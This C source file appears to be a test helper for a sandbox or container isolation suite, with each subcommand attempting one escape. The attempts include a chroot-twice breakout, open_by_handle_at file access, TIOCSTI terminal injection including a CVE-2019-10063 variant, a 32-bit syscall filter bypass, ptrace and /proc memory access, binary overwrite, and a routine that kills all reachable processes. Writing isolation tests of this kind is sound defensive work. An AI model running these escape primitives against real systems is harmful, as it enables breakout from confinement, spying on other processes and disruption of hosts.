// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * attempt [-u UID] WHAT [ARGUMENT...]: one attempt to get out. Exit status 0: it worked, and
 * what it got is on standard output. 1: it was refused, and the step and the reason are on
 * standard output. 2: it could not even be tried. Static, so that it runs in any tree.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <linux/landlock.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int refused(const char *step)
{
	printf("refused: %s: %s\n", step, strerrorname_np(errno));
	return 1;
}

static int untried(const char *why)
{
	fprintf(stderr, "attempt: %s: %s\n", why, strerror(errno));
	return 2;
}

/* Shows that @fd is a file of the host's. */
static int show(int fd)
{
	char buf[256];
	ssize_t n = read(fd, buf, sizeof(buf));

	if (n < 0)
		return refused("read");
	fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}

static int read_file(char **argv)
{
	int fd = open(argv[0], O_RDONLY);

	return fd < 0 ? refused("open") : show(fd);
}

/* Opens for writing only: the host must stay as it is even where this works. */
static int open_to_write(char **argv)
{
	int fd = open(argv[0], O_WRONLY);

	return fd < 0 ? refused("open") : 0;
}

static int write_file(char **argv)
{
	int fd = open(argv[0], O_WRONLY);

	if (fd < 0)
		return refused("open");
	return write(fd, argv[1], strlen(argv[1])) < 0 ? refused("write") : 0;
}

static int execute(char **argv)
{
	execvp(argv[0], argv);
	return untried(argv[0]);
}

/* ---- the root ------------------------------------------------------------------ */

/* A working directory outside of the root: ".." is bounded by nothing then. */
static int chroot_twice(char **argv)
{
	int root = open("/", O_RDONLY | O_DIRECTORY), fd;

	if (mkdir("/tmp/second", 0755) < 0 && errno != EEXIST)
		return untried("/tmp/second");
	if (chroot("/tmp/second") < 0)
		return refused("chroot");
	if (fchdir(root) < 0)
		return refused("fchdir");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return refused("chdir");
	if (chroot(".") < 0)
		return refused("chroot");
	fd = open(argv[0], O_RDONLY);
	return fd < 0 ? refused("open") : show(fd);
}

/* The working directory is whoever's it was. */
static int chroot_here(char **argv)
{
	int fd;

	if (chroot(argv[0]) < 0)
		return untried(argv[0]);
	fd = open(argv[1], O_RDONLY);
	return fd < 0 ? refused("open") : show(fd);
}

/* Until it is killed each of two names is now the one's, now the other's. */
static int exchange(char **argv)
{
	for (;;)
		if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
			return untried("rename");
}

static int print_handle(char **argv)
{
	struct file_handle *handle = calloc(1, sizeof(*handle) + MAX_HANDLE_SZ);
	int mount;

	handle->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, argv[0], handle, &mount, 0) < 0)
		return untried(argv[0]);
	printf("%d ", handle->handle_type);
	for (unsigned int i = 0; i < handle->handle_bytes; i++)
		printf("%02x", handle->f_handle[i]);
	putchar('\n');
	return 0;
}

static int open_handle(char **argv)
{
	struct file_handle *handle = calloc(1, sizeof(*handle) + MAX_HANDLE_SZ);
	int mount = open("/", O_RDONLY | O_DIRECTORY), fd;

	handle->handle_type = atoi(argv[0]);
	for (const char *p = argv[1]; p[0] && p[1]; p += 2)
		sscanf(p, "%2hhx", &handle->f_handle[handle->handle_bytes++]);
	fd = open_by_handle_at(mount, handle, O_RDONLY);
	return fd < 0 ? refused("open_by_handle_at") : show(fd);
}

/* Every descriptor but 0-2 and the one that lists them. */
static int list_fds(char **argv)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *entry;
	int found = 0;

	(void)argv;
	if (!dir)
		return untried("/proc/self/fd");
	while ((entry = readdir(dir)))
		if (atoi(entry->d_name) > 2 && atoi(entry->d_name) != dirfd(dir)) {
			printf("%s\n", entry->d_name);
			found++;
		}
	return !found;
}

static int by_descriptor(char **argv)
{
	int fd = openat(atoi(argv[0]), argv[1], O_RDONLY);

	return fd < 0 ? refused("openat") : show(fd);
}

/* ---- mounts and devices ----------------------------------------------------------- */

static int make_node(char **argv)
{
	mode_t type = *argv[1] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t dev = (dev_t)(atoi(argv[2]) << 8 | atoi(argv[3]));

	return mknod(argv[0], type | 0600, dev) < 0 ? refused("mknod") : 0;
}

static int mount_type(char **argv)
{
	unsigned long flags = strcmp(argv[0], "remount") ? 0 : MS_REMOUNT | MS_BIND;

	return mount(argv[1], argv[2], argv[0], flags, argv[3]) < 0 ? refused("mount") : 0;
}

static int unmount(char **argv)
{
	return umount2(argv[0], MNT_DETACH) < 0 ? refused("umount") : 0;
}

/* ---- system calls -------------------------------------------------------------------- */

static const struct {
	const char *name;
	long nr;
	long args[4];
} calls[] = {
	{ "bpf", SYS_bpf, { 0, 0, 0 } },
	{ "keyctl", SYS_keyctl, { KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0 } },
	{ "add_key", SYS_add_key, { 0, 0, 0, 0 } },
	{ "perf_event_open", SYS_perf_event_open, { 0, 0, -1, -1 } },
	{ "kexec_load", SYS_kexec_load, { 0, 0, 0, -1 } },
	{ "finit_module", SYS_finit_module, { -1, 0, 0 } },
	{ "open_by_handle_at", SYS_open_by_handle_at, { -1, 0, 0 } },
	{ "userfaultfd", SYS_userfaultfd, { -1 } },
	{ "swapon", SYS_swapon, { 0, 0 } },
	{ "quotactl", SYS_quotactl, { 0, 0, 0, 0 } },
	{ "acct", SYS_acct, { 1 } },
	{ "clock_settime", SYS_clock_settime, { 0, 0 } },
};

/* What the kernel answers to a wrong use of each, which tells who answered. */
static int system_calls(char **argv)
{
	(void)argv;
	for (size_t i = 0; i < sizeof(calls) / sizeof(*calls); i++) {
		const long *a = calls[i].args;
		long rc = syscall(calls[i].nr, a[0], a[1], a[2], a[3]);

		printf("%s %s\n", calls[i].name, rc < 0 ? strerrorname_np(errno) : "done");
	}
	return 0;
}

/* bpf(2) by the way of 32-bit programs, which has other numbers. */
static int old_call(char **argv)
{
	(void)argv;
#if defined(__x86_64__)
	long rc = 357;

	__asm__ volatile("int $0x80" : "+a"(rc) : "b"(0), "c"(0), "d"(0) : "memory");
	errno = (int)-rc;
	return refused("bpf");
#else
	errno = ENOSYS;
	return untried("int 0x80");
#endif
}

static int user_namespace(char **argv)
{
	(void)argv;
	return unshare(CLONE_NEWUSER) < 0 ? refused("unshare") : 0;
}

/* By clone, whose flags are the filter's to look at too. */
static int clone_user_namespace(char **argv)
{
	long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	(void)argv;
	if (pid == 0)
		_exit(0);
	if (pid < 0)
		return refused("clone");
	waitpid((pid_t)pid, NULL, 0);
	return 0;
}

static int type_ahead(char **argv)
{
	for (const char *p = argv[0]; *p; p++)
		if (ioctl(0, TIOCSTI, p) < 0)
			return refused("TIOCSTI");
	return 0;
}

/* The kernel looks at the lower half of the number only (CVE-2019-10063). */
static int type_ahead_high(char **argv)
{
	return syscall(SYS_ioctl, 0, 0x100000000UL | TIOCSTI, argv[0]) < 0 ?
		refused("TIOCSTI") : 0;
}

/* What has all in reach as its object: nothing is refused, but what is in reach is one's own. */
static int everybody(char **argv)
{
	(void)argv;
	(void)!sethostname("vps-evil", 8);
	(void)!setdomainname("vps-evil", 8);
	shmget(0x76707365, 4096, IPC_CREAT | 0666);
	msgget(0x76707365, IPC_CREAT | 0666);
	semget(0x76707365, 1, IPC_CREAT | 0666);
	setpriority(PRIO_USER, 0, 19);
	syscall(SYS_ioprio_set, 3, 0, 3 << 13); /* all of a user's: idle */
	mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL);
	mount("vps-evil", "/tmp", "tmpfs", 0, NULL);
	kill(-1, SIGKILL);
	return 0;
}

/* ---- sockets -------------------------------------------------------------------------- */

static socklen_t abstract(const char *name, struct sockaddr_un *addr)
{
	memset(addr, 0, sizeof(*addr));
	addr->sun_family = AF_UNIX;
	snprintf(addr->sun_path + 1, sizeof(addr->sun_path) - 1, "%s", name);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

/* Of a name in the file system; below where it is, since names of sockets are short. */
static int make_socket(char **argv)
{
	struct sockaddr_un addr = { .sun_family = AF_UNIX };
	int sock = socket(AF_UNIX, SOCK_STREAM, 0);
	char *slash = strrchr(argv[0], '/');

	*slash = '\0';
	if (chdir(argv[0]) < 0)
		return untried(argv[0]);
	snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", slash + 1);
	return bind(sock, (struct sockaddr *)&addr, sizeof(addr)) < 0 ? untried("bind") : 0;
}

/* Answers until it is killed; the file argv[1] says that it listens. */
static int listen_abstract(char **argv)
{
	int sock = socket(AF_UNIX, SOCK_STREAM, 0), client;
	struct sockaddr_un addr;
	socklen_t len = abstract(argv[0], &addr);

	if (bind(sock, (struct sockaddr *)&addr, len) < 0 || listen(sock, 8) < 0)
		return untried("listen");
	close(open(argv[1], O_CREAT | O_WRONLY, 0600));
	while ((client = accept(sock, NULL, NULL)) >= 0) {
		dprintf(client, "host\n");
		close(client);
	}
	return 2;
}

static int connect_abstract(char **argv)
{
	int sock = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un addr;
	socklen_t len = abstract(argv[0], &addr);

	return connect(sock, (struct sockaddr *)&addr, len) < 0 ? refused("connect") : show(sock);
}

static int has_scope(char **argv)
{
	(void)argv;
	return syscall(SYS_landlock_create_ruleset, NULL, 0, LANDLOCK_CREATE_RULESET_VERSION) < 6;
}

/* ---- who enters -------------------------------------------------------------------------- */

static int look_into(pid_t pid)
{
	static const char *const files[] = { "mem", "environ", "maps", "exe", "root", "fd/0" };
	char path[64];
	int got = 0;

	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		/* Of a zombie environ is empty, and that is not what is asked for. */
		if (open(path, O_RDONLY | O_CLOEXEC) >= 0) {
			printf("opened %s\n", files[i]);
			got++;
		}
	}
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		printf("traced\n");
		got++;
	}
	return got;
}

static int name_is(pid_t pid, const char *name)
{
	char path[64], comm[32] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, comm, sizeof(comm) - 1) <= 0)
		*comm = '\0';
	if (fd >= 0)
		close(fd);
	comm[strcspn(comm, "\n")] = '\0';
	return !strcmp(comm, name);
}

static pid_t find_named(const char *name)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;
	pid_t found = 0;

	while (dir && !found && (entry = readdir(dir)))
		if (atoi(entry->d_name) > 0 && name_is(atoi(entry->d_name), name))
			found = atoi(entry->d_name);
	if (dir)
		closedir(dir);
	return found;
}

/* Waits for a process called argv[0], tells that it has one (file argv[1]), looks into it. */
static int watch(char **argv)
{
	pid_t pid;
	int got;

	close(open(argv[1], O_CREAT | O_WRONLY, 0600));
	do
		pid = find_named(argv[0]);
	while (!pid);
	got = look_into(pid);
	if (!name_is(pid, argv[0])) {
		printf("too late\n");
		return 2;
	}
	printf("%s\n", got ? "breached" : "shut");
	return !got;
}

/* The file behind descriptor argv[0], once nobody executes it any more. */
static int overwrite(char **argv)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[0]);
	for (int i = 0; i < 2000; i++) {
		fd = open(path, O_WRONLY);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		usleep(1000);
	}
	if (fd < 0)
		return refused("open");
	return write(fd, "#!overwritten\n", 14) < 0 ? refused("write") : 0;
}

/* Gives file argv[0], which the caller may own, another project: out of a quota. */
static int set_project(char **argv)
{
	int fd = open(argv[0], O_RDONLY);
	struct fsxattr attr;

	if (fd < 0)
		return untried("open");
	if (ioctl(fd, FS_IOC_FSGETXATTR, &attr) < 0)
		return untried("FS_IOC_FSGETXATTR");
	printf("%u\n", attr.fsx_projid);
	attr.fsx_projid = (unsigned int)atoi(argv[1]);
	attr.fsx_xflags &= ~(unsigned int)FS_XFLAG_PROJINHERIT;
	return ioctl(fd, FS_IOC_FSSETXATTR, &attr) < 0 ? refused("FS_IOC_FSSETXATTR") : 0;
}

/* @argc -1: any number but none. */
static const struct {
	const char *name;
	int argc;
	int (*run)(char **argv);
} attempts[] = {
	{ "exec", -1, execute },
	{ "read", 1, read_file }, { "open-to-write", 1, open_to_write },
	{ "write", 2, write_file }, { "chroot-twice", 1, chroot_twice },
	{ "print-handle", 1, print_handle }, { "open-handle", 2, open_handle },
	{ "fds", 0, list_fds }, { "by-descriptor", 2, by_descriptor },
	{ "chroot-here", 2, chroot_here }, { "exchange", 2, exchange },
	{ "everybody", 0, everybody },
	{ "mknod", 4, make_node }, { "mount", 4, mount_type }, { "umount", 1, unmount },
	{ "system-calls", 0, system_calls }, { "old-call", 0, old_call },
	{ "userns", 0, user_namespace }, { "clone-userns", 0, clone_user_namespace },
	{ "type-ahead", 1, type_ahead }, { "type-ahead-high", 1, type_ahead_high },
	{ "make-socket", 1, make_socket },
	{ "listen-abstract", 2, listen_abstract }, { "connect-abstract", 1, connect_abstract },
	{ "set-project", 2, set_project },
	{ "has-scope", 0, has_scope }, { "watch", 2, watch }, { "overwrite", 1, overwrite },
};

int main(int argc, char **argv)
{
	argc--;
	argv++;
	if (argc > 2 && !strcmp(argv[0], "-u")) {
		uid_t uid = (uid_t)atoi(argv[1]);

		if (setgroups(0, NULL) < 0 || setresgid(uid, uid, uid) < 0 ||
		    setresuid(uid, uid, uid) < 0)
			return untried("become the user");
		argc -= 2;
		argv += 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (size_t i = 0; argc && i < sizeof(attempts) / sizeof(*attempts); i++)
		if (!strcmp(argv[0], attempts[i].name) &&
		    (attempts[i].argc < 0 ? argc > 1 : argc - 1 == attempts[i].argc))
			return attempts[i].run(argv + 1);
	fprintf(stderr, "usage: attempt [-u UID] WHAT [ARGUMENT...]\n");
	return 2;
}
